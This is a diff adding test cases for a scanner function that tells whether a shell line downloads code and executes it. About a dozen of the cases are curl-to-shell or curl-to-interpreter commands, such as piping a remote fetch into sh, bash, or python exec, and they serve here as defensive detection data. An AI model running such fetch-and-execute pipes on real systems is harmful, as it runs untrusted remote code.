@@ -117,3 +117,36 @@ test('a program of another language that only loads a library for the web fetche
   ])
     expect(scriptFacts(byteText(loader)).fetchesAndRuns).toBe(true);
 });
+
+describe('what is piped into an interpreter', () => {
+  const runs = (text: string) => scriptFacts(byteText(text)).fetchesAndRuns;
+  const from = 'curl -s http://203.0.113.77/x |';
+  test.each([
+    `${from} python3 -c 'import json,sys; print(json.load(sys.stdin)["usd"])' > /srv/rates`,
+    `${from} python3 -mjson.tool > /srv/rates`,
+    `${from} python3 -m json.tool`,
+    `${from} perl -ne 'print if /x/' > /srv/feed`,
+    `${from} php /srv/shop/import.php`,
+    `${from} node -e 'process.stdin.pipe(process.stdout)'`,
+    `${from} sh -c 'cat > /srv/feed'`,
+    `${from} sh /opt/shop/import.sh --all`,
+  ])('is data where the program is given: %s', (text) => {
+    expect(runs(text)).toBe(false);
+  });
+  test.each([
+    `${from} sh`,
+    `${from} sh; echo done`,
+    `${from} bash -s -- --all`,
+    `${from} bash -xe`,
+    `${from} bash -o pipefail -`,
+    `${from} python3 -u - --pool x`,
+    `${from} python3 -c 'import sys; exec(sys.stdin.read())'`,
+    `${from} perl -e 'eval join "", <STDIN>'`,
+    `${from} sh -c 'eval "$(cat)"'`,
+    `${from} bash 2>&1 >/dev/null &`,
+    `${from} bash /dev/stdin`,
+    `sh -c "${from} sh"`,
+  ])('is a program where none is given, or the given one runs it: %s', (text) => {
+    expect(runs(text)).toBe(true);
+  });
+});
